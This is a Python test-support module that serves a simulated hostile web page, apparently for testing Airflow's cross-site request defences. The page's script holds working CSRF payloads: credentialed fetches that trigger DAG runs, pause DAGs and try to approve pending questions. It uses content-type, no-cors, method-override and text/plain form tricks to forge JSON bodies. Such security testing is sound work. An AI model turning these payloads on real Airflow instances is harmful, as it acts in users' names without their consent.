"""A web site that a signed-in user of Airflow visits, and that sends requests in that
user's name.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from urllib.parse import urlsplit

from tests.support.servers.loopback import Reply, Request, serve

_PAGE = """<!doctype html>
<title>attacking</title>
<iframe name="sink"></iframe>
<iframe id="framed" src="TARGET/delta-maintenance/run?name=orders"></iframe>
<form method="post" enctype="text/plain" target="sink" action="TARGET/RUNS"></form>
<script>
(async () => {
  const conf = {operation: "vacuum", table_uri: "s3://lake/sales/orders"};
  const body = JSON.stringify({logical_date: null, conf});
  const json = {"Content-Type": "application/json"};
  const requests = [
    ["RUNS", {method: "POST", headers: json, body}],
    ["RUNS", {method: "POST", headers: {"Content-Type": "text/plain"}, body}],
    ["RUNS", {method: "POST", mode: "no-cors", body}],
    // Without a type, a body may be taken for JSON.
    ["RUNS", {method: "POST", mode: "no-cors", body: new Blob([body])}],
    ["DAG?update_mask=is_paused", {method: "PATCH", headers: json, body: '{"is_paused": true}'}],
    ["delta-maintenance/", {}],
    ["delta-maintenance/table?name=orders", {}],
    ...APPROVALS,
  ];
  const read = [];
  for (const [path, options] of requests) {
    try {
      const answer = await fetch(`TARGET/${path}`, {credentials: "include", ...options});
      read.push(answer.type === "opaque" ? "" : await answer.text());
    } catch {
      read.push("");
    }
  }
  const form = document.querySelector("form");
  // As text/plain, a name and a value make a JSON document, with "=" within a text.
  const field = document.createElement("input");
  field.name = body.slice(0, -1) + ',"note":"';
  field.value = '"}';
  form.append(field);
  const sent = new Promise((done) => document.querySelector("[name=sink]").onload = done);
  form.submit();
  await Promise.race([sent, new Promise((done) => setTimeout(done, 5000))]);
  window.readAnswers = read;
})();
</script>
"""


_APPROVE = json.dumps({"chosen_options": ["Approve"], "params_input": {}})
_AS_JSON = {"headers": {"Content-Type": "application/json"}}
_AS_TEXT = {"headers": {"Content-Type": "text/plain"}}
APPROVALS: list[dict[str, object]] = [
    {"method": "PATCH", "body": _APPROVE, **_AS_JSON},
    {"method": "PATCH", "body": _APPROVE, **_AS_TEXT},
    {"method": "POST", "body": _APPROVE, **_AS_TEXT},
    {"method": "POST", "body": _APPROVE, "mode": "no-cors"},
    {
        "method": "POST",
        "body": _APPROVE,
        "headers": {"Content-Type": "text/plain", "X-HTTP-Method-Override": "PATCH"},
    },
    {},
]
"""Requests that try to approve a plan, or to read it."""


@contextmanager
def attacking_site(target: str, *, same_site: bool, question: str | None = None) -> Iterator[str]:
    """Serves the site. With `same_site` it is another port of the same host and receives its
    cookies.

    `question` is the path of an open question of Airflow, which the site also tries to approve.
    """
    runs = "api/v2/dags/delta_manual/dagRuns"
    approvals = [[question, options] for options in APPROVALS] if question is not None else []
    page = _PAGE.replace("TARGET", target).replace("RUNS", runs).replace("DAG?", f"{runs[:-8]}?")
    page = page.replace("...APPROVALS", f"...{json.dumps(approvals)}")

    def answer(request: Request) -> Reply:
        return Reply(status=200, headers={"Content-Type": "text/html"}, body=page.encode())

    with serve(answer) as address:
        parts = urlsplit(address)
        host = parts.hostname if same_site else "localhost"
        yield f"http://{host}:{parts.port}/"
